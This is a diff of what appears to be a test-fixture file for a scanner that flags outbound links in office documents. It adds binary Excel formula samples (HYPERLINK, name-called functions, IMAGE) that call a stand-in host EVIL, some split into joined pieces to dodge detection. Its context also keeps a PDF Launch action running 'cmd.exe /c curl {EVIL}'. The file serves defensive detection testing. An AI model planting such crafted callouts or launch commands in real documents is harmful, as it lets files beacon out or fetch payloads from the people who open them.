@@ -24,6 +24,34 @@ def old_book(*monikers: bytes) -> bytes:
     return samples.ole({"Workbook": records + struct.pack("<HH", 0x1B8, len(linked)) + linked})
 
 
+def formula(*tokens: bytes | str, wide: bool = False) -> bytes:
+    """Of a cell, texts among its tokens."""
+    letters = "utf-16-le" if wide else "latin-1"
+    told = (
+        b"\x17"
+        + struct.pack("<H" if wide else "<BB", *((len(one),) if wide else (len(one), 0)))
+        + one.encode(letters)
+        if isinstance(one, str)
+        else one
+        for one in tokens
+    )
+    return bytes(20) + b"".join(told)
+
+
+def old_formula(*tokens: bytes | str) -> bytes:
+    cell = formula(*tokens)
+    return samples.ole({"Workbook": struct.pack("<HH", 6, len(cell)) + cell})
+
+
+def packed_formula(*tokens: bytes | str) -> bytes:
+    return samples.xlsx(**{"xl/worksheets/sheet1__bin": formula(*tokens, wide=True)})
+
+
+OPENS, BY_NAME, IF = b"\x42\x02\x67\x01", b"\x42\x02\xff\x00", b"\x42\x03\x01\x00"
+"""HYPERLINK; a function by its name; IF (MS-XLS 2.5.198.17)."""
+CELL, JOIN = b"\x44\x00\x00\x01\xc0", b"\x08"
+
+
 def old_slides(text: bytes) -> bytes:
     return samples.ole({"PowerPoint Document": struct.pack("<HHI", 0x10, 0xFBA, len(text)) + text})
 
@@ -38,6 +66,17 @@ LEADS: dict[str, bytes] = {
     "old text": old_text(f'\x13 HYPERLINK "{EVIL}" \x14Voir\x15'.encode()),
     "old text in letters of two bytes": old_text(f'\x13 HYPERLINK "{EVIL}" \x14'.encode("utf-16-le")),
     "old table": old_book("https://a.example\0".encode("utf-16-le"), WIDE + bytes(24)),
+    "old table, a formula": old_formula(EVIL, "https://a.example", OPENS),
+    "old table, a formula in pieces": old_formula(EVIL[:9], EVIL[9:12], JOIN, EVIL[12:], JOIN, CELL, OPENS),
+    "old table, a formula that fetches": old_formula(b"\x39" + bytes(6), EVIL, BY_NAME),
+    "old table, a formula in letters of two bytes": samples.ole(
+        {"Workbook": bytes(24) + b"\x17%c\1" % len(EVIL) + EVIL.encode("utf-16-le") + OPENS}
+    ),
+    "packed table, a formula": packed_formula(EVIL, "https://a.example", OPENS),
+    "packed table, a formula in pieces": packed_formula(EVIL[:9], EVIL[9:], JOIN, CELL, OPENS),
+    "table, a picture that it fetches": samples.xlsx(
+        **{"xl/worksheets/sheet1__xml": f'<f>_xlfn.IMAGE("{EVIL}")</f>'.encode()}
+    ),
     "old slides": old_slides(WIDE[:-2]),
     "text in one XML": f"<?mso-application progid='Word.Document'?><w:x><w:hlink w:dest='{EVIL}'/></w:x>".encode(),
     "text in one XML, a field": (
@@ -80,6 +119,8 @@ LEADS: dict[str, bytes] = {
     "pdf, a command": pressed(f"/S/Launch/Win<</F(cmd.exe)/P(/c curl {EVIL})>>"),
 }  # fmt: skip
 NOWHERE: dict[str, bytes] = {
+    "old table that compares": old_formula(CELL, "https://a.example", b"\x0b", IF),
+    "old table of addresses": old_formula("https://a.example", bytes(60), EVIL, b"\x0b", IF),
     "old text that speaks of links": old_text(f'Ecrire HYPERLINK puis {EVIL} "ici"'.encode()),
     "old table with a place in itself": old_book("Feuil2!A1\0".encode("utf-16-le")),
     "old slides with a title": old_slides("Voir la d\u00e9lib\u00e9ration https".encode("utf-16-le")),
